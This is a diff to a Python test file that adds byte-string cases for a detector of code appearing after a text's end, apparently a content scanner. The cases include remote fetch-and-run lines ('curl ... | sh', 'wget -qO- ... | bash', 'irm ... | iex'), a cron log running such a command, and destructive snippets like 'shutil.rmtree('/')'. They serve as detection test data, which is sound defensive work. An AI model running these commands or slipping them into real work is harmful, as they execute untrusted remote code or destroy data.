@@ -243,6 +243,9 @@ def test_is_silent_about_texts_after_the_end_that_reach_for_nothing(fired: Fired
         b"Traceback (most recent call last):\n  File 'a.py', line 3\n    os.system('x')\nOSError: no\n",
         b"A terminal shows `curl https://example.org | sh`",
         b"a wall with `import os; os.system('reboot')` written on it",
+        b"root@pi:/# wget -qO- http://example.org | bash",
+        b"1. curl https://example.org | sh",
+        b"Jan  1 00:00:00 host CRON[1]: (root) CMD (curl http://example.org | sh)",
         b"$ curl -s https://example.org/a.sh | sh",
         b"PS C:\\> irm https://example.org/a | iex",
         b"Tool\nirm example.org/a | iex\n",
@@ -275,6 +278,9 @@ def test_is_silent_about_texts_after_the_end_that_reach_for_nothing(fired: Fired
         b"@wraps\nimport os as o\no.system(x)\n",
         b"import os, shutil\nshutil.rmtree('/')",
         b"import sys\nexec(sys.argv[1])",
+        b"from os import system as s\ns('id')",
+        b"[[ -f a ]] && curl http://example.org/a | sh",
+        b"echo This is a harmless note to all readers\ncurl http://example.org/a | sh",
     ],
 )
 def test_finds_code_behind_the_end_however_it_begins(fired: Fired, code: bytes) -> None:
